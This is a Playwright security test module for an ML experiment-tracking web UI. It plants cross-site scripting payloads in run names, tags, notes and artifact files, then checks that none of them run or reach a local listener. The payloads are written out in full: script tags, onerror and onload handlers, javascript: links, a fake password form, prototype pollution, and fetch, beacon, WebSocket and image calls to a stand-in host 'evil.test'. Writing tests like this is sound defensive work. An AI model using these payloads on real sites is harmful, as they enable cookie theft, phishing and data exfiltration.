"""A run by somebody who means ill (attacks 39-41): nothing of it runs in the lab, asks anything, touches the session.

Everything that a client may write is tried: the run's name, tags, params, the note, a data set's name, and files of all
kinds that a browser could run. Each payload says so if it runs (`window.pwned`), goes for the cookie, the parent and
the storage, and asks a listener of the test's own for something in every way there is: what arrives there has left.
"""

import contextlib
import re
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, FrameLocator, Page, expect

from tests.live import Live
from tests.ui import rich_run
from tests.ui.browser import window
from tests.ui.walk import Walk

pytestmark = pytest.mark.browser
EVIL = "http://evil.test"  # the listener's address stands for it in what is logged
GREED = (
    "try { parent.pwned = top.pwned = 'reached'; } catch (e) {} try { window.pwned = 'ran'; } catch (e) {}"
    "try { document.cookie = 'pwned=1; path=/'; } catch (e) {} try { localStorage.pwned = 1; } catch (e) {}"
    f"try {{ fetch('{EVIL}/fetch'); }} catch (e) {{}} try {{ new Image().src = '{EVIL}/image'; }} catch (e) {{}}"
    f"try {{ navigator.sendBeacon('{EVIL}/beacon'); }} catch (e) {{}}"
    f"try {{ new WebSocket('ws://evil.test/socket'); }} catch (e) {{}}"
    f"try {{ window.open('{EVIL}/popup'); }} catch (e) {{}}"
)
ATTRIBUTE = f'<img src=x onerror="{GREED}"><svg onload="{GREED}">'
HTML = f"""<html><head><base href="{EVIL}/"><link rel="stylesheet" href="{EVIL}/style.css">
<link rel="preload" as="image" href="{EVIL}/preload"><link rel="dns-prefetch" href="//evil.test">
<link rel="prefetch" href="{EVIL}/prefetch"><style>@import url({EVIL}/import.css); body {{ background:
url({EVIL}/background) }}</style></head><body>"></iframe><h1>report</h1>{ATTRIBUTE}
<img src="{EVIL}/plain.png"><iframe src="{EVIL}/frame"></iframe><object data="{EVIL}/object"></object>
<form id="f" action="{EVIL}/form" method="post"></form><video src="{EVIL}/video" autoplay></video>
<p id="said">static</p><script>{GREED}
document.getElementById("said").textContent =
  "ran, origin " + self.origin + ", peer " + typeof RTCPeerConnection + ", cookie " + (() => {{
    try {{ return document.cookie || "none"; }} catch (e) {{ return "refused"; }} }})();
document.getElementById("f").submit();
addEventListener("click", () => {{ location.href = "{EVIL}/navigate"; }});
</script></body></html>"""
REFRESH = f'<meta http-equiv="refresh" content="0; url={EVIL}/refresh"><p>refreshing</p>'
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100"
onload="{GREED.replace('"', "'")}"><script>{GREED}</script><image href="{EVIL}/svg-image" width="9" height="9"/>
<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="{EVIL}/foreign"/></body>
</foreignObject><rect width="200" height="100" fill="red"/></svg>"""
MARKDOWN = f"""# hostile note

{ATTRIBUTE}<script>{GREED}</script><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>
![pixel]({EVIL}/pixel.png) <img src="/logout" alt="local"> <img srcset="{EVIL}/set 2x" src="{EVIL}/set">
[click](javascript:parent.pwned='link') [local](/logout) [fine](https://example.org/)
<a data-commandlinker-command="studio:open" data-commandlinker-args="{{}}" href="#">command</a>
<p style="background: url({EVIL}/css)">styled</p><div class="jp-Studio-modal">spoof</div>
<form action="{EVIL}/form"><input name="password"><button>Sign in</button></form>
$\\href{{javascript:parent.pwned='tex'}}{{tex}} \\style{{background:url({EVIL}/tex)}}{{x}}$
<video src="{EVIL}/video"></video><audio src="{EVIL}/audio" autoplay></audio>
"""
NAME = f"evil {ATTRIBUTE}"


@dataclass
class Trap:
    """The page, and what arrived at the listener."""

    walk: Walk
    page: Page
    left: list[str]

    def assert_unharmed(self) -> None:
        """No script of the payload ran here, no request left, the session's and the page's storage are as they were."""
        # A round through the event loop and the network stack, so that whatever was started has been seen.
        self.page.evaluate("() => fetch(location.href).then(() => new Promise(requestAnimationFrame))")
        assert self.page.evaluate("() => window.pwned ?? null") is None
        assert self.left == []
        assert "pwned" not in self.page.evaluate("() => document.cookie + JSON.stringify(localStorage)")
        assert [cookie["name"] for cookie in self.page.context.cookies() if "pwned" in cookie["name"]] == []
        assert self.page.context.pages == [self.page]

    def open(self, file: str) -> None:
        """Shows a file."""
        self.walk.shown(f"studio-file-{file}").click()


class Listener(ThreadingHTTPServer):
    """Notes whatever is asked of it; a connection that says nothing counts too."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        super().__init__(("127.0.0.1", 0), BaseHTTPRequestHandler)

    def process_request(self, request: Any, client_address: Any) -> None:
        request.settimeout(5)
        with contextlib.suppress(OSError):
            self.asked.append(request.recv(200).decode("latin-1").split("\r\n")[0] or "a connection")
        self.shutdown_request(request)


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    with Listener() as found:
        thread = threading.Thread(target=found.serve_forever, daemon=True)
        thread.start()
        yield found
        found.shutdown()
        thread.join()


@pytest.fixture(scope="module")
def run_id(live: Live, listener: Listener, tmp_path_factory: pytest.TempPathFactory) -> str:
    port = listener.server_address[1]
    folder = tmp_path_factory.mktemp("hostile")
    for name, text in {
        "report.html": HTML, "refresh.html": REFRESH, "plot.svg": SVG, "README.md": MARKDOWN,
        "rows.csv": f"a,b\n{ATTRIBUTE.replace(',', ';').replace(chr(34), chr(39))},2\n",
        "table.json": '{"columns": ["<img src=x onerror=parent.pwned=1>"], "data": [["<script>pwned=1</script>"]]}',
        "tree.json": '{"<img src=x onerror=parent.pwned=1>": {"__proto__": {"pwned": 1}, "x": "<script>"}}',
        "train.log": f"\x1b[31m{ATTRIBUTE}</pre><script>{GREED}</script>\n",
        "picture.png": SVG, "noext": HTML,
    }.items():  # fmt: skip
        (folder / name).write_text(text.replace("evil.test", f"127.0.0.1:{port}"))
    with rich_run.client(live) as mlflow:
        return _log(mlflow, folder, port)


def _log(mlflow: Any, folder: Path, port: int) -> str:
    from mlflow.entities import Dataset, DatasetInput

    mlflow.set_experiment("hostile")
    with mlflow.start_run(run_name=NAME) as run:
        mlflow.log_param("depth", ATTRIBUTE)
        mlflow.log_metric("loss", 0.1, step=1)
        mlflow.set_tags(
            {"team": ATTRIBUTE, "mlflow.note.content": MARKDOWN, "mlflow.source.name": f"javascript:{GREED}"}
        )
        used = Dataset(ATTRIBUTE[:400], "d1", "local", "{}")
        mlflow.MlflowClient().log_inputs(run.info.run_id, [DatasetInput(used, [])])
        mlflow.log_artifacts(str(folder))
    return str(run.info.run_id)


@pytest.fixture(scope="module")
def trap(browser: Browser, live: Live, run_id: str, listener: Listener) -> Iterator[Trap]:
    with window(browser) as page:
        found = Trap(Walk(page, live), page, listener.asked)
        found.walk.sign_in()
        found.walk.open_lab()
        page.locator(".jp-Studio-newest button", has_text="evil").first.click()
        expect(found.walk.shown("studio-state-run")).to_be_visible()
        yield found


def test_name_params_tags_and_data_sets_are_text(trap: Trap) -> None:
    trap.walk.shown("studio-run-tab-overview").click()
    expect(trap.walk.shown("studio-run-name")).to_have_text(NAME)
    expect(trap.walk.shown("studio-run-param-depth")).to_have_text(ATTRIBUTE)
    trap.page.locator("summary:visible", has_text="Source").click()
    trap.assert_unharmed()
    trap.walk.shown("studio-run-tab-lineage").click()
    expect(trap.walk.shown("studio-lineage").get_by_role("button").first).to_contain_text("<img src=x")
    trap.assert_unharmed()


def test_the_note_is_drawn_without_what_could_act(trap: Trap) -> None:
    trap.walk.shown("studio-run-tab-tags").click()
    note = trap.walk.shown("studio-run-note")
    expect(note.get_by_role("heading", name="hostile note")).to_be_visible()
    acting = "script, iframe, svg, form, input, button, video, audio, img, [style], [onerror], [srcset]"
    expect(note.locator(acting)).to_have_count(0)
    expect(note).to_contain_text("style{background")  # TeX stays text: setting it would ask for the picture
    expect(note.locator("[class*='jp-Studio-modal'], [data-commandlinker-command]")).to_have_count(0)
    links = note.locator("a[href]:not([href^='#'])")
    expect(links).to_have_count(1)
    expect(links).to_have_attribute("href", "https://example.org/")
    expect(links).to_have_attribute("rel", "noopener noreferrer")
    trap.assert_unharmed()


def test_html_is_still_until_asked_and_then_closed_in(trap: Trap) -> None:
    trap.walk.shown("studio-run-tab-artifacts").click()
    trap.open("report.html")
    frame = _innermost(trap.page)
    expect(frame.locator("#said")).to_have_text("static")
    trap.assert_unharmed()
    trap.walk.shown("studio-preview-scripts").click()
    # It runs, in an origin of nobody's; what it tried led nowhere, leaving by itself included.
    expect(trap.page.locator("iframe.jp-Studio-closedFrame")).to_have_attribute("sandbox", "allow-scripts")
    said = _innermost(trap.page).locator("#said")
    expect(said).to_contain_text("ran, origin null, peer undefined, cookie refused")
    trap.assert_unharmed()
    said.click()
    expect(said).to_have_count(0)  # the browser has put its own word for "blocked" there
    trap.assert_unharmed()


def test_a_page_that_refreshes_itself_goes_nowhere(trap: Trap) -> None:
    trap.walk.shown("studio-run-tab-artifacts").click()
    trap.open("refresh.html")
    expect(_innermost(trap.page).get_by_text("refreshing")).to_be_visible()
    trap.assert_unharmed()


@pytest.mark.parametrize(
    ("file", "kind"),
    [
        ("plot.svg", "svg"), ("README.md", "markdown"), ("rows.csv", "table"), ("table.json", "json"),
        ("tree.json", "json"), ("train.log", "text"), ("noext", "none"),
    ],
)  # fmt: skip
def test_a_file_of_any_kind_only_shows(trap: Trap, file: str, kind: str) -> None:
    trap.walk.shown("studio-run-tab-artifacts").click()
    trap.open(file)
    shown = trap.walk.shown(f"studio-preview-{kind}")
    expect(shown).to_be_visible()
    if kind == "svg":
        image = shown.locator("img")
        expect(image).to_have_attribute("src", re.compile("^data:image/svg"))
        assert image.evaluate("image => image.decode().then(() => image.naturalWidth)") == 200
    else:
        expect(shown).not_to_have_text("")
        expect(shown.locator("script, iframe, [onerror]")).to_have_count(0)
    trap.assert_unharmed()


def test_an_svg_that_calls_itself_png_is_no_image(trap: Trap) -> None:
    trap.walk.shown("studio-run-tab-artifacts").click()
    trap.open("picture.png")
    expect(trap.walk.shown("studio-preview-image")).to_contain_text("not an image")
    trap.assert_unharmed()


def test_the_file_itself_is_a_download_in_a_sandbox(trap: Trap, live: Live, run_id: str) -> None:
    path = f"/studio/api/domains/demo/runs/{run_id}/artifacts/file?path=report.html"
    answer = trap.page.evaluate(
        "path => fetch(path).then(got => [got.headers.get('content-disposition'), "
        "got.headers.get('content-security-policy'), got.headers.get('x-content-type-options')])",
        path,
    )
    assert answer[0].startswith("attachment")
    assert answer[1:] == ["sandbox; default-src 'none'", "nosniff"]
    with trap.page.expect_download():
        trap.page.evaluate("path => { location.href = path; }", path)
    trap.assert_unharmed()


def _innermost(page: Page) -> FrameLocator:
    return page.frame_locator("iframe.jp-Studio-closedFrame").frame_locator("iframe")
